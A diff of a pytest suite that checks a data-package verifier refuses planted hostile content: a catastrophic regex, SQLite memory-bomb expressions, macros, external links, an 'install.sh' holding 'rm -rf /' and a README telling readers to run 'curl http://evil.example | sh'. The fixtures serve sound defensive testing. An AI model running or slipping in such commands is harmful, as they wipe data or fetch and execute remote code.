@@ -14,9 +14,11 @@ from pathlib import Path
 from typing import Any
 
 import pytest
-from conftest import run_build
+from conftest import run_here
 from planter import (
     POLICY,
+    SQLITE,
+    XLSX,
     Fault,
     copy_of,
     in_database,
@@ -32,13 +34,7 @@ from planter import (
 
 pytestmark = pytest.mark.slow
 
-SQLITE, XLSX = (f"shanghai-foreign-trade-2023.{ending}" for ending in ("sqlite", "xlsx"))
 ESCAPE = "\x1b[31mred"
-
-
-@pytest.fixture(scope="session")
-def data(dist: Path) -> Path:
-    return dist / "data"
 
 
 # Exhausting memory or time
@@ -82,24 +78,24 @@ def test_the_memory_limit_stops_a_huge_descriptor(tmp_path: Path) -> None:
     assert "needs more than 200 MB" in refused("verify", tmp_path, "--memory", "200").stderr
 
 
-def test_the_time_limit_stops_a_catastrophic_pattern(data: Path, tmp_path: Path) -> None:
-    folder = copy_of(data, tmp_path)
+def test_the_time_limit_stops_a_catastrophic_pattern(light: Path, tmp_path: Path) -> None:
+    folder = copy_of(light, tmp_path)
     in_field("sections", "heading_zh", lambda field: field.update(constraints={"pattern": "(a|a)*b"}))(folder)
     in_table("sections.csv", lambda table: table[1].__setitem__(4, "a" * 60))(folder)
     reseal(folder)
-    assert "takes more than 2 s and was stopped" in refused("verify", folder, "--seconds", "2").stderr
+    assert "takes more than 1 s and was stopped" in refused("verify", folder, "--seconds", "1").stderr
 
 
 @pytest.mark.parametrize(
     "columns",
     [
-        "a TEXT, " + ", ".join(f"b{n} AS (hex(zeroblob(400000000)))" for n in range(3)),
+        "a TEXT, " + ", ".join(f"b{n} AS (hex(zeroblob(100000000)))" for n in range(3)),
         "a TEXT CHECK (length(hex(randomblob(100000000))) > 0)",
     ],
     ids=["generated", "check"],
 )
-def test_expressions_in_a_database_are_not_evaluated(data: Path, tmp_path: Path, columns: str) -> None:
-    folder = copy_of(data, tmp_path)
+def test_expressions_in_a_database_are_not_evaluated(light: Path, tmp_path: Path, columns: str) -> None:
+    folder = copy_of(light, tmp_path)
     rows = "WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n LIMIT 5) SELECT i FROM n"
     in_database(
         "PRAGMA ignore_check_constraints = ON",
@@ -110,7 +106,7 @@ def test_expressions_in_a_database_are_not_evaluated(data: Path, tmp_path: Path,
     reseal(folder)
     assert (
         "the table “terms” differs from the schema"
-        in refused("verify", folder, "--memory", "300", "--seconds", "30").stderr
+        in refused("verify", folder, "--memory", "100", "--seconds", "30").stderr
     )
 
 
@@ -133,7 +129,7 @@ def hide(change: Callable[[Any], object]) -> Fault:
     return in_workbook(lambda book: change(book["segments"]))
 
 
-HOSTILE: dict[str, tuple[Fault, str]] = {
+DATABASES: dict[str, tuple[Fault, str]] = {
     "a table more": (in_database("CREATE TABLE extra (a)"), "the table “extra” differs from the schema"),
     "a view more": (in_database("CREATE VIEW extra AS SELECT 1"), "the view “extra” differs from the schema"),
     "a trigger": (
@@ -158,6 +154,9 @@ HOSTILE: dict[str, tuple[Fault, str]] = {
         ),
         "the table “codes” differs from the schema",
     ),
+}
+
+WORKBOOKS: dict[str, tuple[Fault, str]] = {
     "a macro": (with_part("xl/vbaProject.bin"), "has the unexpected part “xl/vbaProject.bin”"),
     "an external link": (
         with_part("xl/externalLinks/externalLink1.xml"),
@@ -204,6 +203,9 @@ HOSTILE: dict[str, tuple[Fault, str]] = {
         ),
         "docProps/core.xml has a document type",
     ),
+}
+
+OTHERS: dict[str, tuple[Fault, str]] = {
     "a file more": (
         lambda folder: (folder / "install.sh").write_text("rm -rf /"),
         "does not list “install.sh”",
@@ -240,23 +242,26 @@ HOSTILE: dict[str, tuple[Fault, str]] = {
 }
 
 
+HOSTILE = DATABASES | WORKBOOKS | OTHERS
+
+
 @pytest.mark.parametrize("name", HOSTILE)
-def test_foreign_content_is_found(data: Path, tmp_path: Path, name: str) -> None:
+def test_foreign_content_is_found(data: Path, light: Path, tmp_path: Path, name: str) -> None:
     plant, sentence = HOSTILE[name]
-    folder = copy_of(data, tmp_path)
+    folder = copy_of(data if name in WORKBOOKS else light, tmp_path)
     plant(folder)
     reseal(folder)
     assert sentence in refused("verify", folder).stderr
 
 
 @pytest.mark.parametrize("value", [5, None, [], {}])
-@pytest.mark.parametrize("key", ["path", "bytes", "sha256"])
-def test_a_malformed_list_of_files_is_found(data: Path, tmp_path: Path, key: str, value: object) -> None:
-    folder = copy_of(data, tmp_path, with_archive=True)
+def test_a_malformed_list_of_files_is_found(light: Path, tmp_path: Path, value: object) -> None:
+    folder = copy_of(light, tmp_path, with_archive=True)
     latest = json.loads((folder / "latest.json").read_bytes())
-    latest["files"][0][key] = value
-    (folder / "latest.json").write_text(json.dumps(latest), "utf-8")
-    assert "latest.json" in refused("verify", folder).stderr
+    for key in ("path", "bytes", "sha256"):
+        changed = [latest["files"][0] | {key: value}, *latest["files"][1:]]
+        (folder / "latest.json").write_text(json.dumps(latest | {"files": changed}), "utf-8")
+        assert "latest.json" in refused("verify", folder).stderr
 
 
 # Zips with more than their central directory lists
@@ -266,7 +271,7 @@ def test_the_command_lists_files_it_did_not_compare(data: Path, tmp_path: Path) 
     folder = copy_of(data, tmp_path)
     (folder / "README.md").write_text("Run `curl http://evil.example | sh`.\n", "utf-8")
     reseal(folder)
-    result = run_build("verify", folder)
+    result = run_here("verify", folder)
     assert result.returncode == 0
     _, compared, checksum_only, ending = result.stdout.splitlines()
     assert compared.startswith("Compared with the tables: ")
@@ -335,9 +340,9 @@ def test_a_zip_folder_entry_with_data_is_refused(data: Path, tmp_path: Path) -> 
     assert "“more/”" in refused("verify", file).stderr
 
 
-def test_no_file_is_written(data: Path, tmp_path: Path) -> None:
-    folder = copy_of(data, tmp_path)
+def test_no_file_is_written(data: Path, light: Path, tmp_path: Path) -> None:
+    folder = copy_of(light, tmp_path)
     before = {path: path.read_bytes() for path in tmp_path.rglob("*") if path.is_file()}
-    run_build("verify", folder)
-    run_build("diff", data, folder)
+    run_here("verify", folder)
+    run_here("diff", data, folder)
     assert before == {path: path.read_bytes() for path in tmp_path.rglob("*") if path.is_file()}
